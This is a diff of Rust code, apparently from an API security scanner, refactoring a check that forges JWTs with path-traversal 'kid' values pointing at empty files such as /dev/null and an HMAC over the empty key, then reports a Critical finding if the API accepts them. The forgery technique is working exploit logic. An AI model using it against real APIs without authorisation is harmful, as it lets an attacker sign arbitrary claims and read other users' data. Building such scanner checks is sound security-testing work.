@@ -14,11 +14,12 @@
 use async_trait::async_trait;
 use serde_json::{Map, Value};
 
-use super::{accepted_twice, bench, forgery_draft, impact, jwt_credentials, refreshed};
+use super::{forge_jwt, jwt_credentials, Forgery};
 use crate::checks::{Check, CheckMeta, Mode, Outcome, RunsOn, Skip, TargetContext};
 use crate::facts::Needs;
 use crate::finding::{Category, Severity};
-use crate::tokens::jwt::{self, Signature};
+use crate::tokens::crack::Digest;
+use crate::tokens::jwt::{self, Jwt, Signature};
 
 pub struct Kid;
 
@@ -51,68 +52,51 @@ impl Check for Kid {
         if credentials.is_empty() {
             return Err(Skip::NotApplicable("no HMAC-signed JWT with a kid header"));
         }
-        let mut skip = None;
-        for credential in credentials {
-            let Some(token) = credential.jwt() else {
-                continue;
-            };
-            let Some(digest) = token.hmac_digest() else {
-                continue;
-            };
-            let claims = refreshed(ctx, &token.claims);
-            // The control: the empty key under the genuine kid.
-            let control = jwt::encode(&token.header, &claims, Signature::Hmac(digest, b""));
-            let bench = match bench(ctx, &credential, &control, true).await? {
-                Ok(bench) => bench,
-                Err(reason) => {
-                    skip.get_or_insert(reason);
-                    continue;
-                }
-            };
-            for kid in EMPTY_FILE_KIDS {
-                let mut header = token.header.clone();
-                header.insert("kid".into(), Value::from(*kid));
-                let forged = jwt::encode(&header, &claims, Signature::Hmac(digest, b""));
-                let Some(accepted) =
-                    accepted_twice(ctx, &credential, bench.point, &forged, credential.identity)
-                        .await?
-                else {
-                    continue;
-                };
-                let make = |claims: &Map<String, Value>| {
-                    Some(jwt::encode(&header, claims, Signature::Hmac(digest, b"")))
-                };
-                let shown = impact(ctx, &credential, bench.point, &claims, make).await?;
-                let other = shown
-                    .as_ref()
-                    .map(|(other, _)| {
-                        format!(
-                            " A token naming {other}, made the same way, returned {other}'s data."
-                        )
-                    })
-                    .unwrap_or_default();
-                let step = format!(
-                    "`\"kid\": \"{kid}\"` with an HMAC over the empty key gets {}'s data",
-                    credential.identity
-                );
-                let draft = forgery_draft(Severity::Critical, &bench, &accepted, &step, shown.as_ref())
-                    .title("JWT kid path traversal: a token keyed with /dev/null's empty contents is accepted")
-                    .description(format!(
-                        "With `kid` set to `{kid}`, an {} token signed with the empty key is accepted by {}, where the \
-                         same token under the genuine kid (`{}`) is refused: the API reads its key from a path built \
-                         from `kid`. Anyone can pick the key, and so sign any claims.{other}",
-                        token.alg(),
-                        bench.point.template,
-                        token.kid().unwrap_or_default()
-                    ))
-                    .key("kid-traversal");
-                return Ok(vec![draft]);
-            }
+        // The control: the empty key under the genuine kid.
+        let control = |token: &Jwt, claims: &Map<String, Value>| {
+            let digest = token.hmac_digest().unwrap_or(Digest::Sha256);
+            jwt::encode(&token.header, claims, Signature::Hmac(digest, b""))
+        };
+        let forgeries = |token: &Jwt| {
+            let digest = token.hmac_digest().unwrap_or(Digest::Sha256);
+            EMPTY_FILE_KIDS
+                .iter()
+                .map(|kid| {
+                    let mut header = token.header.clone();
+                    header.insert("kid".into(), Value::from(*kid));
+                    Forgery {
+                        how: (*kid).to_string(),
+                        make: Box::new(move |claims: &Map<String, Value>| {
+                            Some(jwt::encode(&header, claims, Signature::Hmac(digest, b"")))
+                        }),
+                    }
+                })
+                .collect()
+        };
+        let Some(forged) = forge_jwt(ctx, credentials, control, forgeries).await?? else {
             return Ok(Vec::new());
-        }
-        Err(skip.unwrap_or(Skip::Missing(
-            "no caller-specific answer to test the token on",
-        )))
+        };
+        let kid = &forged.how;
+        let (alg, genuine_kid) = forged
+            .credential
+            .jwt()
+            .map_or(("", ""), |t| (t.alg(), t.kid().unwrap_or_default()));
+        let step = format!(
+            "`\"kid\": \"{kid}\"` with an HMAC over the empty key gets {}'s data",
+            forged.credential.identity
+        );
+        let draft = forged
+            .draft(Severity::Critical, &step)
+            .title("JWT kid path traversal: a token keyed with /dev/null's empty contents is accepted")
+            .description(format!(
+                "With `kid` set to `{kid}`, an {alg} token signed with the empty key is accepted by {}, where the \
+                 same token under the genuine kid (`{genuine_kid}`) is refused: the API reads its key from a path \
+                 built from `kid`. Anyone can pick the key, and so sign any claims.{}",
+                forged.bench.point.template,
+                forged.impact_words("made the same way")
+            ))
+            .key("kid-traversal");
+        Ok(vec![draft])
     }
 }
 
